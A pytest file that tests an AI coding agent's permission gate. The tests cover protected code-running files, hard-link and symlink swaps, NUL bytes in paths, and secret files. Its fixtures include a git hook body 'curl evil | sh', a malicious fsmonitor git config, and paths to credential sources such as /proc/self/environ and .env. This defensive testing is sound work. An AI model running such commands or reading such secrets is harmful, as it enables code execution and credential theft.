"""The gate's path rules: protected files, hard links, no folder, link swaps, NUL, secrets.

Each test drives the real gate and the real tools (the check, then the tool call in the same
task, as the loop runs them), so a write refused at write time is refused for real.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pi_lsp.agent.permissions import PermissionGate, PermissionRequest
from pi_lsp.settings import PermissionSettings
from pi_lsp.tools import ToolError, ToolResult, create_tools, fs
from pi_lsp.tools.fs import WriteCheck, expect_write, write_checked
from tests.unit.agent.scripted import Reply, Script, run_checked


class Harness:
    """A gate over ``root`` whose asker records requests and answers from a list."""

    def __init__(self, tmp_path: Path, *, roots: list[str] | None = None, **policy: Any) -> None:
        self.root = tmp_path / "project"
        self.root.mkdir(exist_ok=True)
        self.agent = tmp_path / "agent"
        self.agent.mkdir(exist_ok=True)
        self.asked: list[PermissionRequest] = []
        self.answers: list[str] = []
        self.on_ask: Callable[[PermissionRequest], None] | None = None
        settings = PermissionSettings.model_validate({"timeoutMs": 5000, **policy})
        self.gate = PermissionGate(
            settings,
            roots=[str(self.root)] if roots is None else roots,
            ask=self._ask,
            agent=str(self.agent),
        )
        self.tools = create_tools(str(self.root))

    async def _ask(self, request: PermissionRequest) -> Any:
        self.asked.append(request)
        if self.on_ask is not None:
            self.on_ask(request)
        return self.answers.pop(0) if self.answers else "deny"

    async def call(self, name: str, args: dict[str, Any]) -> ToolResult | str:
        """The refusal text, or the tool's result (errors as results, as the loop does)."""

        async def one() -> ToolResult | str:
            refusal = await self.gate.check(name, "c1", args, str(self.root))
            if refusal is not None:
                return refusal
            try:
                return await self.tools[name].execute(args)
            except ToolError as exc:
                return ToolResult.of_text(exc.message, {}, is_error=True)

        return await asyncio.ensure_future(one())  # one task per call, as in the loop


def text(outcome: ToolResult | str) -> str:
    return outcome if isinstance(outcome, str) else outcome.text


async def test_writes_to_files_that_run_code_are_asked(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    (h.root / ".git" / "hooks").mkdir(parents=True)
    cases = {
        ".pi/settings.json": '{"permissions": {"bash": "allow"}}',
        ".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
        ".git/config": "[core]\n\tfsmonitor = evil\n",
        ".vscode/tasks.json": "{}",
        ".envrc": "evil",
        "sub/.git/hooks/post-checkout": "evil",
    }
    for rel, content in cases.items():
        refused = await h.call("write", {"path": rel, "content": content})
        assert "did not allow" in text(refused), rel
        assert not (h.root / rel).is_file(), rel
    assert [r.kind for r in h.asked] == ["writeProtected"] * len(cases)
    assert h.asked[0].detail == str(h.root / ".pi" / "settings.json")
    assert h.asked[0].reason is not None and h.asked[0].reason.startswith(".pi:")
    assert not isinstance(await h.call("write", {"path": "src/ok.py", "content": "x"}), str)
    assert len(h.asked) == len(cases)  # an ordinary file inside is never asked
    h.answers = ["allowOnce"]
    done = await h.call("write", {"path": ".vscode/settings.json", "content": "{}"})
    assert not isinstance(done, str) and (h.root / ".vscode" / "settings.json").read_text() == "{}"


async def test_allow_session_for_outside_writes_does_not_open_protected_files(
    tmp_path: Path,
) -> None:
    h = Harness(tmp_path)
    h.answers = ["allowSession"]
    outside = tmp_path / "elsewhere.txt"
    assert not isinstance(await h.call("write", {"path": str(outside), "content": "x"}), str)
    refused = await h.call("write", {"path": ".git/config", "content": "x"})
    assert "did not allow" in text(refused)
    assert [r.kind for r in h.asked] == ["writeOutsideWorkspace", "writeProtected"]


async def test_the_agent_directory_is_protected_even_inside_a_folder(tmp_path: Path) -> None:
    h = Harness(tmp_path, roots=[str(tmp_path)])  # a folder holding the agent dir (e.g. ~)
    refused = await h.call("write", {"path": str(h.agent / "trust.json"), "content": "{}"})
    assert "did not allow" in text(refused)
    assert h.asked[0].kind == "writeProtected" and "agent directory" in str(h.asked[0].reason)


async def test_a_hard_link_inside_is_asked_as_an_outside_write(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("original\n")
    os.link(outside, h.root / "innocent.txt")
    refused = await h.call(
        "edit", {"path": "innocent.txt", "oldText": "original", "newText": "changed"}
    )
    assert "did not allow" in text(refused)
    assert outside.read_text() == "original\n"
    request = h.asked[0]
    assert request.kind == "writeOutsideWorkspace" and "2 names" in str(request.reason)


async def test_no_folder_means_every_write_is_asked(tmp_path: Path) -> None:
    h = Harness(tmp_path, roots=[])
    refused = await h.call("write", {"path": "new.txt", "content": "x"})
    assert "did not allow" in text(refused) and not (h.root / "new.txt").exists()
    assert h.asked[0].kind == "writeOutsideWorkspace"
    assert h.asked[0].reason == "no workspace folder is open"


async def test_a_link_swapped_while_the_user_reads_the_prompt_is_refused(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    shown = tmp_path / "shown.txt"  # what the prompt names
    precious = tmp_path / "precious.txt"  # where the swapped link points
    shown.write_text("shown\n")
    precious.write_text("precious\n")
    link = h.root / "out"
    link.symlink_to(shown)

    def swap(_request: PermissionRequest) -> None:
        link.unlink()
        link.symlink_to(precious)

    h.on_ask = swap
    h.answers = ["allowOnce"]
    refused = await h.call("write", {"path": "out", "content": "overwritten\n"})
    assert h.asked[0].detail == str(shown)
    assert "Refused to write" in text(refused) and "since the permission check" in text(refused)
    assert precious.read_text() == "precious\n" and shown.read_text() == "shown\n"


async def test_a_folder_swapped_for_a_link_after_the_check_is_refused(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    (h.root / "sub").mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "a.txt").write_text("keep\n")
    args = {"path": "sub/a.txt", "content": "x"}

    async def one() -> str:
        assert await h.gate.check("write", "c1", args, str(h.root)) is None  # inside: no prompt
        (h.root / "sub").rmdir()
        (h.root / "sub").symlink_to(elsewhere)
        with pytest.raises(ToolError) as caught:
            await h.tools["write"].execute(args)
        return caught.value.message

    message = await asyncio.ensure_future(one())
    assert f"it now leads to {elsewhere / 'a.txt'}" in message
    assert (elsewhere / "a.txt").read_text() == "keep\n"
    assert h.asked == []


def test_a_swap_between_the_last_look_and_the_open_is_caught_on_the_descriptor(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The folder is replaced after write time's own realpath look: the opened folder's
    # descriptor, not the path, is what is compared, so the write still goes nowhere.
    root = tmp_path / "project"
    (root / "sub").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "a.txt").write_text("keep\n")
    planned = str(root / "sub" / "a.txt")
    expect_write(WriteCheck(planned, planned, links_allowed=False))
    (root / "sub").rmdir()
    (root / "sub").symlink_to(elsewhere)
    monkeypatch.setattr(fs.os.path, "realpath", lambda p: p)  # the stale look
    with pytest.raises(ToolError) as caught:
        write_checked(planned, b"x")
    assert "a folder on the way" in caught.value.message
    assert (elsewhere / "a.txt").read_text() == "keep\n"
    monkeypatch.undo()
    (root / "sub").unlink()
    (root / "sub").mkdir()
    (root / "sub" / "real.txt").write_text("r")
    (root / "sub" / "a.txt").symlink_to(root / "sub" / "real.txt")  # final link, stale look
    monkeypatch.setattr(fs.os.path, "realpath", lambda p: p)
    with pytest.raises(ToolError) as caught:
        write_checked(planned, b"x")
    assert "became a symbolic link" in caught.value.message
    monkeypatch.undo()
    expect_write(None)
    fifo = root / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(OSError) as not_regular:  # never blocks on a FIFO nobody reads
        write_checked(str(fifo), b"x")
    assert "FIFO" in str(not_regular.value)


async def test_a_hard_link_made_after_the_check_is_refused(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    (h.root / "a.txt").write_text("one\n")
    args = {"path": "a.txt", "oldText": "one", "newText": "two"}

    async def one() -> str:
        assert await h.gate.check("edit", "c1", args, str(h.root)) is None
        os.link(h.root / "a.txt", tmp_path / "outside-name.txt")
        with pytest.raises(ToolError) as caught:
            await h.tools["edit"].execute(args)
        return caught.value.message

    assert "hard links" in await asyncio.ensure_future(one())
    assert (tmp_path / "outside-name.txt").read_text() == "one\n"


async def test_a_nul_byte_in_a_path_is_a_tool_error_and_the_turn_goes_on(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    script = Script(
        Reply(
            calls=[
                ("write", {"path": "a\0b", "content": "x"}),
                ("edit", {"path": "x\0", "oldText": "a", "newText": "b"}),
                ("read", {"path": "r\0"}),
            ]
        ),
        Reply("carried on"),
    )
    messages, events = await run_checked(
        script, h.tools, lambda name, cid, args: h.gate.check(name, cid, args, str(h.root))
    )
    results = [m for m in messages if m["role"] == "toolResult"]
    assert len(results) == 3 and all(r["isError"] for r in results)
    assert all("NUL byte" in r["content"][0]["text"] for r in results)
    starts = [e for e in events if e["type"] == "tool_execution_start"]
    ends = [e for e in events if e["type"] == "tool_execution_end"]
    assert len(starts) == len(ends) == 3
    assert messages[-1]["content"][0]["text"] == "carried on"


async def test_a_failing_check_refuses_the_call_and_the_turn_goes_on(tmp_path: Path) -> None:
    async def broken(name: str, cid: str, args: Any) -> str | None:
        raise ValueError("embedded null byte")

    script = Script(Reply(calls=[("bash", {"command": "touch x"})]), Reply("ok"))
    messages, _events = await run_checked(script, create_tools(str(tmp_path)), broken)
    assert "permission check failed" in messages[2]["content"][0]["text"]
    assert not (tmp_path / "x").exists()
    assert messages[-1]["content"][0]["text"] == "ok"


async def test_secret_sources_are_asked_before_reading(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    (h.agent / "auth.json").write_text('{"openai": {"key": "sk-secret"}}')
    (h.root / ".env").write_text("TOKEN=sk-secret\n")
    (h.root / "deploy.pem").write_text("-----BEGIN sk-secret")
    (h.root / "notes.txt").symlink_to(h.root / ".env")  # a link to a secret is one too
    paths = [
        "/proc/self/environ",
        f"/proc/{os.getpid()}/environ",
        str(h.agent / "auth.json"),
        ".env",
        "deploy.pem",
        "notes.txt",
    ]
    for path in paths:
        refused = await h.call("read", {"path": path})
        assert isinstance(refused, str) and "did not allow the agent to read" in refused, path
        assert "sk-" not in refused
    assert [r.kind for r in h.asked] == ["readSecret"] * len(paths)
    assert h.asked[0].reason == "a process environment"
    assert h.asked[5].detail == str(h.root / ".env")
    h.answers = ["allowOnce"]
    allowed = await h.call("read", {"path": ".env"})
    assert not isinstance(allowed, str) and "TOKEN=sk-secret" in allowed.text
    (h.root / "plain.txt").write_text("hello")
    assert not isinstance(await h.call("read", {"path": "plain.txt"}), str)
    assert not isinstance(await h.call("read", {"path": "/etc/hostname"}), str)
    assert len(h.asked) == len(paths) + 1  # ordinary reads anywhere are free


async def test_grep_asks_for_a_secret_file_and_skips_secrets_in_a_folder(tmp_path: Path) -> None:
    h = Harness(tmp_path)
    (h.root / ".env").write_text("TOKEN=needle\n")
    (h.root / "a.txt").write_text("needle\n")
    refused = await h.call("grep", {"pattern": "needle", "path": ".env"})
    assert isinstance(refused, str) and "did not allow" in refused
    grep = h.tools["grep"]
    grep.skip_file = h.gate.is_secret  # what the factory wires
    found = await h.call("grep", {"pattern": "needle"})
    assert not isinstance(found, str)
    assert "a.txt:1: needle" in found.text and "TOKEN" not in found.text
    assert "1 secret file(s) not searched" in found.text


async def test_the_secret_and_protected_lists_are_settings(tmp_path: Path) -> None:
    h = Harness(tmp_path, secretPaths=["*.secret"], protectedPaths=["build.sh"])
    (h.root / ".env").write_text("x")
    (h.root / "a.secret").write_text("x")
    assert not isinstance(await h.call("read", {"path": ".env"}), str)
    assert isinstance(await h.call("read", {"path": "a.secret"}), str)
    assert isinstance(await h.call("write", {"path": "build.sh", "content": "x"}), str)
    assert not isinstance(await h.call("write", {"path": ".vscode/x.json", "content": "{}"}), str)
    denied = Harness(tmp_path, readSecret="deny")
    refused = await denied.call("read", {"path": "/proc/self/environ"})
    assert isinstance(refused, str) and "permissions.readSecret" in refused
    assert denied.asked == []
    free = Harness(tmp_path, readSecret="allow")
    assert not isinstance(await free.call("read", {"path": "/proc/self/environ"}), str)
